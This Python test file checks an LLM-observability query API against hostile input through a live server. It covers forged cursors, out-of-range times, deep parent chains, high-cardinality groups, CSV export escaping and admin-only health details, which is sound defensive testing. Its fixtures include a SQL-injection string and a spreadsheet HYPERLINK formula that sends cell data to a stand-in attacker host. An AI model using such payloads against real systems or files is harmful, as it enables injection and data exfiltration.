"""Issue 10, item 6: the query API against hostile input, through a live server. No value a client
can put in a query may get a 5xx; forged cursors and out-of-range times are 400s naming the
parameter; deep parent chains, high-cardinality groups and formula-like text are answered safely;
``/healthz`` tells nobody but an admin where the data lives; reprice reads in bounded slices."""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from llmobserve.pricing import Pricer
from llmobserve.query_api import reprice
from llmobserve.storage import Store, StoreConfig, spans_table
from tests.conftest import LiveServer
from tests.otlp_helpers import chat_attrs, grpc_export, request, span
from tests.span_rows import span as stored_span

HOUR_NS = 3600 * 10**9
# Everything below starts an hour ago (inside the receiver's retention, never in the future).
T0 = (time.time_ns() // HOUR_NS - 1) * HOUR_NS
WINDOW = {
    "from": datetime.fromtimestamp(T0 / 1e9 - 3600, UTC).isoformat(),
    "to": datetime.fromtimestamp(T0 / 1e9 + 3 * 3600, UTC).isoformat(),
}


def _cursor(*parts: str) -> str:
    return base64.urlsafe_b64encode(json.dumps(list(parts)).encode()).decode()


NASTY = [
    "NaN",
    "nan",
    "inf",
    "-inf",
    "Infinity",
    "1e100",
    "-1",
    "0",
    "0001-01-01",
    "9999-12-31T23:59:59",
    "0001-01-01T00:00:00+01:00",
    "9999-12-31T23:59:59-01:00",
    "2026-02-30",
    "x" * 10_000,
    "日本語\u202e🙂\u0301",
    "",
    " ",
    "\x00",
    "' OR 1=1 --",
    "{s:String}",
    "[" * 300,
    _cursor("cost", "NaN", "0" * 32),
    _cursor("cost", "1e100", "0" * 32),
    _cursor("time", "0001-01-01", "0" * 32),
    _cursor("time", "9999-12-31T23:59:59", "0" * 32),
    _cursor("cost", "-1", "0" * 32),
    base64.urlsafe_b64encode(b"[" * 5000).decode(),
    "!!!not-base64!!!",
]
REQUIRED = {"group_by": "model"}  # required parameters get a valid value while another one is attacked


def _get(client: httpx.Client, key: str, path: str, params: dict[str, str]) -> httpx.Response:
    return client.get(path, params=params, headers={"authorization": f"Bearer {key}"})


@pytest.fixture(scope="module")
def seeded(server: LiveServer) -> tuple[str, str]:
    """An admin key of a tenant with a stored trace (so routes have rows to work on), and its id."""
    key = server.create_key("api-hostile-seeded", "admin")
    trace, root = os.urandom(16), os.urandom(8)
    spans = [
        span(
            "invoke_agent a",
            {"gen_ai.operation.name": "invoke_agent", "gen_ai.agent.name": "a"},
            trace_id=trace,
            span_id=root,
            start_ns=T0,
        ),
        span(
            attrs=chat_attrs("openai", "gpt-4o", 1000, 500, **{"llmobserve.customer.id": "c"}),
            trace_id=trace,
            parent=root,
            start_ns=T0 + 10**6,
        ),
    ]
    grpc_export(server.grpc_target, key, request(*spans).SerializeToString())
    return key, trace.hex()


def _get_routes(client: httpx.Client) -> Iterator[tuple[str, list[dict[str, Any]]]]:
    spec = client.get("/openapi.json").json()
    for path, operations in spec["paths"].items():
        if "get" in operations:
            yield path, operations["get"].get("parameters", [])


@pytest.mark.parametrize("value", NASTY, ids=lambda v: repr(v[:24]) + (f"..{len(v)}" if len(v) > 24 else ""))
def test_no_query_value_gets_a_5xx_on_any_get_route(server: LiveServer, seeded: tuple[str, str], value: str) -> None:
    key, trace_id = seeded
    failures = []
    with httpx.Client(base_url=server.http_url, timeout=60) as client:
        routes = list(_get_routes(client))
        assert len(routes) >= 10  # the walk covers the API, not an empty spec
        for path, parameters in routes:
            valid_path = path.replace("{trace_id}", trace_id)
            required = {p["name"]: REQUIRED[p["name"]] for p in parameters if p["in"] == "query" and p.get("required")}
            attempts = [(valid_path, {**required, p["name"]: value}) for p in parameters if p["in"] == "query"]
            attempts += [
                (path.replace("{" + p["name"] + "}", quote(value, safe="")), required)
                for p in parameters
                if p["in"] == "path"
            ]
            attempts.append((valid_path, {**required, "unknown": value}))
            for url, params in attempts:
                response = _get(client, key, url, params)
                if response.status_code >= 500:
                    failures.append(f"{response.status_code} {url[:80]} {list(params)}: {response.text[:200]}")
                elif response.status_code >= 400:
                    assert set(response.json()) == {"error", "detail"}, response.text[:200]
        raw = client.get(
            "/api/v1/costs/breakdown?group_by=model&from=%ff%fe&customer=%c3%28",
            headers={"authorization": f"Bearer {key}"},
        )
        assert raw.status_code < 500, raw.text
    assert not failures, "\n".join(failures)


def _time_routes(client: httpx.Client) -> list[tuple[str, set[str]]]:
    return [
        (path, {p["name"] for p in params})
        for path, params in _get_routes(client)
        if {"from", "to", "as_of"} & {p["name"] for p in params}
    ]


def test_forged_cursors_and_out_of_range_times_are_400s_naming_the_parameter(
    server: LiveServer, seeded: tuple[str, str]
) -> None:
    key, _ = seeded
    with httpx.Client(base_url=server.http_url, timeout=60) as client:
        routes = _time_routes(client)
        assert {p for p, _ in routes} >= {
            "/api/v1/costs/breakdown",
            "/api/v1/costs/summary",
            "/api/v1/costs/timeseries",
            "/api/v1/traces",
            "/api/v1/export/traces",
            "/api/v1/export/costs",
            "/api/v1/pricing/unpriced",
        }
        for path, names in routes:
            base = {"group_by": "model"} if "group_by" in names else {}
            cases = [("as_of", {"as_of": v}) for v in ("0001-01-01", "9999-12-31T23:59:59", "1970-01-02")]
            if "from" in names:
                cases = [
                    ("from", {"from": "0001-01-01"}),
                    ("from", {"from": "0001-01-01T00:00:00+01:00"}),
                    ("to", {"to": "9999-12-31T23:59:59"}),
                    ("to", {"to": "0001-01-01"}),
                    ("from", {"from": "1900-01-01", "to": "2000-01-01"}),
                    ("to", {"from": "2000-01-01", "to": "2262-01-01"}),
                    ("from", {"from": "2026-02-01", "to": "2026-01-01"}),
                    ("from", {"from": "x" * 10_000}),
                ]
            for name, params in cases:
                response = _get(client, key, path, {**base, **params})
                assert response.status_code == 400, (path, params, response.text[:300])
                detail = response.json()["detail"]
                assert f"'{name}'" in detail and len(detail) < 400, (path, params, detail)
            if "from" in names:  # the widest range allowed is answered, not refused
                wide = _get(client, key, path, {**base, "from": "1970-01-01", "to": "2100-01-01"})
                assert wide.status_code == 200 or "buckets" in wide.text, (path, wide.text[:300])

        for sort, forged in [
            ("cost", _cursor("cost", "NaN", "0" * 32)),
            ("cost", _cursor("cost", "1e100", "0" * 32)),
            ("cost", _cursor("cost", "inf", "0" * 32)),
            ("cost", _cursor("cost", "-1", "0" * 32)),
            ("cost", _cursor("cost", "abc", "0" * 32)),
            ("time", _cursor("time", "0001-01-01", "0" * 32)),
            ("time", _cursor("time", "9999-12-31T23:59:59", "0" * 32)),
            ("time", _cursor("time", "2026-01-01T00:00:00", "not-hex")),
            ("time", _cursor("cost", "1", "0" * 32)),
            ("time", "NaN"),
            ("time", "-1"),
            ("time", "%%%garbage%%%"),
            ("time", "A" * 5000),
        ]:
            response = _get(client, key, "/api/v1/traces", {"sort": sort, "cursor": forged})
            assert response.status_code == 400, (forged[:60], response.text[:300])
            assert "'cursor'" in response.json()["detail"]


def test_time_and_price_bodies_out_of_range_are_client_errors(server: LiveServer) -> None:
    admin = {"authorization": f"Bearer {server.create_key('api-hostile-bodies', 'admin')}"}
    price = {"provider": "openai", "model": "m", "input_per_mtok": 1, "output_per_mtok": 1}
    for body, status, name in [
        ({"from": "0001-01-01", "to": "2026-01-01"}, 400, "'from'"),
        ({"from": "2026-01-01", "to": "9999-12-31T23:59:59"}, 400, "'to'"),
        ({"from": "0001-01-01T00:00:00+01:00", "to": "2026-01-01"}, 400, "'from'"),
        ({"from": "2026-01-02", "to": "2026-01-01"}, 400, "'from'"),
    ]:
        response = httpx.post(f"{server.http_url}/api/v1/pricing/reprice", json=body, headers=admin, timeout=30)
        assert response.status_code == status and name in response.text, (body, response.text[:300])
    for change, status, name in [
        ({"effective_from": "0001-01-01T00:00:00+01:00"}, 400, "effective_from"),
        ({"input_per_mtok": 1e30}, 422, "input_per_mtok"),
        ({"output_per_mtok": "1e100"}, 422, "output_per_mtok"),
        ({"model": "m" * 5000}, 422, "model"),
    ]:
        response = httpx.put(
            f"{server.http_url}/api/v1/pricing/models", json={**price, **change}, headers=admin, timeout=30
        )
        assert response.status_code == status and name in response.text, (change, response.text[:300])


def _chain(depth: int) -> tuple[str, list[Any], Decimal]:
    """One trace whose spans each have the previous as parent; every 10th is a priced LLM call."""
    trace, ids = os.urandom(16), [os.urandom(8) for _ in range(depth)]
    spans, total = [], Decimal(0)
    for i, span_id in enumerate(ids):
        attrs = chat_attrs("openai", "gpt-4o", 0, 1) if i % 10 == 0 else {"gen_ai.operation.name": "execute_tool"}
        total += Decimal("0.00001") if i % 10 == 0 else 0
        spans.append(
            span(
                f"step {i}",
                attrs,
                trace_id=trace,
                span_id=span_id,
                parent=ids[i - 1] if i else b"",
                start_ns=T0 + i * 1000,
            )
        )
    return trace.hex(), spans, total


def _depth(node: dict[str, Any]) -> tuple[int, dict[str, Any]]:
    depth = 1
    while node["children"]:
        [node] = node["children"]
        depth += 1
    return depth, node


@pytest.mark.parametrize("depth", [1500, 5000])
def test_deep_parent_chain_is_a_capped_tree_with_exact_costs(server: LiveServer, tenant_key: str, depth: int) -> None:
    trace_id, spans, total = _chain(depth)
    grpc_export(server.grpc_target, tenant_key, request(*spans).SerializeToString())

    response = server.get(f"/api/v1/traces/{trace_id}", tenant_key)
    assert response.status_code == 200, response.text[:300]
    body = response.json()
    assert body["spans"] == depth and Decimal(str(body["total_cost_usd"])) == total
    assert body["truncated_depth"] is True and body["max_depth"] == 50
    [root] = body["roots"]
    assert Decimal(str(root["subtree_cost_usd"])) == total
    nested, cut = _depth(root)
    assert nested == 50 and cut["children_omitted"] == 1 and cut["name"] == "step 49"

    # reading on from the cut reaches the bottom, 50 levels at a time
    seen, node = nested, cut
    while node["children_omitted"]:
        below = server.get(f"/api/v1/traces/{trace_id}", tenant_key, root=node["span_id"]).json()
        [top] = below["roots"]
        assert top["span_id"] == node["span_id"] and below["total_cost_usd"] == body["total_cost_usd"]
        levels, node = _depth(top)
        seen += levels - 1
    assert seen == depth and node["name"] == f"step {depth - 1}"


def test_parent_cycles_and_bad_roots_are_answered(server: LiveServer, tenant_key: str) -> None:
    trace, a, b, c = os.urandom(16), os.urandom(8), os.urandom(8), os.urandom(8)
    cycle = [
        span("a", chat_attrs("openai", "gpt-4o", 0, 1), trace_id=trace, span_id=a, parent=c, start_ns=T0),
        span("b", trace_id=trace, span_id=b, parent=a, start_ns=T0 + 1),
        span("c", trace_id=trace, span_id=c, parent=b, start_ns=T0 + 2),
    ]
    grpc_export(server.grpc_target, tenant_key, request(*cycle).SerializeToString())
    body = server.get(f"/api/v1/traces/{trace.hex()}", tenant_key).json()
    assert body["spans"] == 3 and body["total_cost_usd"] == 0.00001
    [root] = body["roots"]  # a cycle hangs from no root: its first span becomes one, every span shown once
    assert root["name"] == "a" and _depth(root)[0] == 3
    assert server.get(f"/api/v1/traces/{trace.hex()}", tenant_key, root="zz").status_code == 400
    assert server.get(f"/api/v1/traces/{trace.hex()}", tenant_key, root="0" * 16).status_code == 404


def test_breakdown_and_cost_export_cap_high_cardinality_and_keep_totals_exact(
    server: LiveServer, tenant_key: str
) -> None:
    customers = 1500
    spans = [
        span(
            attrs=chat_attrs("openai", "gpt-4o", 0, i + 1, **{"llmobserve.customer.id": f"cust-{i:05d}"}),
            start_ns=T0 + i * 10**6,
        )
        for i in range(customers)
    ]
    grpc_export(server.grpc_target, tenant_key, request(*spans).SerializeToString())
    total = sum(Decimal(i + 1) / 100_000 for i in range(customers))  # output tokens at $10/M

    body = server.get("/api/v1/costs/breakdown", tenant_key, group_by="customer", **WINDOW).json()
    assert body["limit"] == 1000 and len(body["rows"]) == 1000 and body["truncated"] is True
    assert body["rows"][0]["key"] == "cust-01499" and body["rows"][-1]["key"] == "cust-00500"
    rest = body["rest"]
    assert rest["groups"] == 500 and rest["calls"] == 500 and rest["output_tokens"] == sum(range(1, 501))
    assert Decimal(str(body["total_cost_usd"])) == total
    shown = sum(Decimal(str(r["cost_usd"])) for r in body["rows"])
    assert shown + Decimal(str(rest["cost_usd"])) == total

    few = server.get("/api/v1/costs/breakdown", tenant_key, group_by="customer", limit=10, **WINDOW).json()
    assert len(few["rows"]) == 10 and few["rest"]["groups"] == 1490
    assert Decimal(str(few["total_cost_usd"])) == total
    everything = server.get("/api/v1/costs/breakdown", tenant_key, group_by="customer", limit=10_000, **WINDOW).json()
    assert len(everything["rows"]) == customers and everything["truncated"] is False and everything["rest"] is None
    for bad in ("0", "10001", "-1", "NaN"):
        response = server.get("/api/v1/costs/breakdown", tenant_key, group_by="customer", limit=bad)
        assert response.status_code == 422 and "limit" in response.text

    exported = server.get("/api/v1/export/costs", tenant_key, format="csv", group_by="customer", limit=10, **WINDOW)
    assert exported.headers["x-truncated"] == "true" and exported.headers["x-rest-groups"] == "1490"
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert len(rows) == 11 and rows[-1]["key"] == "(rest: 1490 more groups)"
    assert sum(Decimal(r["cost_usd"]) for r in rows) == total  # the file still sums to the exact total
    whole = server.get("/api/v1/export/costs", tenant_key, format="json", group_by="customer", **WINDOW)
    assert whole.headers["x-truncated"] == "false" and len(whole.json()) == customers


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]


def test_csv_exports_neutralise_formulas_and_json_stays_verbatim(server: LiveServer, tenant_key: str) -> None:
    spans = [
        span(text, chat_attrs("openai", "gpt-4o", 0, 1, **{"llmobserve.customer.id": text}), start_ns=T0 + i)
        for i, text in enumerate(FORMULAS)
    ]
    spans.append(span("plain - name", chat_attrs("openai", "gpt-4o", 0, 1), start_ns=T0 + 100))
    grpc_export(server.grpc_target, tenant_key, request(*spans).SerializeToString())

    traces = list(
        csv.DictReader(
            io.StringIO(server.get("/api/v1/export/traces", tenant_key, format="csv", **WINDOW).text, newline="")
        )
    )
    assert sorted(r["name"] for r in traces) == sorted(["'" + t for t in FORMULAS] + ["plain - name"])
    assert sorted(r["customer"] for r in traces) == sorted(["'" + t for t in FORMULAS] + [""])
    assert all(r["cost_usd"] == "0.000010000000" for r in traces)  # numbers untouched

    costs = list(
        csv.DictReader(
            io.StringIO(
                server.get("/api/v1/export/costs", tenant_key, format="csv", group_by="customer", **WINDOW).text,
                newline="",
            )
        )
    )
    assert sorted(r["key"] for r in costs) == sorted(["'" + t for t in FORMULAS] + ["untracked"])

    as_json = server.get("/api/v1/export/traces", tenant_key, format="json", **WINDOW).json()
    assert sorted(r["name"] for r in as_json) == sorted(FORMULAS + ["plain - name"])


def test_healthz_names_storage_only_to_an_admin(server: LiveServer, tenant_key: str) -> None:
    admin = server.create_key("api-hostile-health-admin", "admin")
    where = str(server.data_dir)
    for key in (None, tenant_key, "llmo_000000000000_not-a-real-key-at-all"):
        response = server.get("/healthz", key)
        assert response.status_code == 200
        body = response.json()
        assert set(body) == {"status", "storage", "rollups_pending"} and body["status"] == body["storage"] == "ok"
        assert where not in response.text and "chDB" not in response.text
    detailed = server.get("/healthz", admin).json()
    assert detailed["status"] == "ok" and where in detailed["storage_backend"]


class _SliceCountingStore(Store):
    """The real store, noting how many spans each reprice read brings into memory."""

    slices: list[int]

    def llm_span_slice(self, *args: Any, **kwargs: Any) -> list[list[Any]]:
        rows = super().llm_span_slice(*args, **kwargs)
        self.slices = [*getattr(self, "slices", []), len(rows)]
        return rows


def test_reprice_reads_bounded_slices_and_stays_exact(tmp_path: Any) -> None:
    store = _SliceCountingStore.open(StoreConfig(tmp_path / "data"))
    try:
        t0 = datetime(2026, 3, 2, tzinfo=UTC)
        attrs = [
            ("gen_ai.operation.name", "chat"),
            ("gen_ai.provider.name", "openai"),
            ("gen_ai.request.model", "gpt-4o"),
            ("gen_ai.usage.input_tokens", "0"),
            ("gen_ai.usage.output_tokens", "100"),
        ]  # $0.001 at $10/M output
        busy = [
            stored_span(f"{i:04x}", f"{i:04x}", t0 + timedelta(seconds=i), "0.5", span_attributes=attrs)
            for i in range(23)
        ]  # one hour holding several slices
        quiet = [
            stored_span("f0", f"{i:04x}", t0 + timedelta(hours=5, seconds=i), "0.5", span_attributes=attrs)
            for i in range(7)
        ]
        store.insert_spans(spans_table(busy + quiet))

        result = reprice(store, "acme", t0 - timedelta(days=1), t0 + timedelta(days=1), Pricer(), None, slice_rows=5)
        assert result.spans == 30 and result.cost_before == Decimal("15") and result.cost_after == Decimal("0.03")
        assert max(store.slices) <= 5 and sum(store.slices) == 30
        stored = store.cost_breakdown("acme", "model", t0 - timedelta(days=1), t0 + timedelta(days=1))
        assert [(r.key, r.cost_usd, r.calls) for r in stored] == [("gpt-4o", Decimal("0.03"), 30)]
    finally:
        store.close()
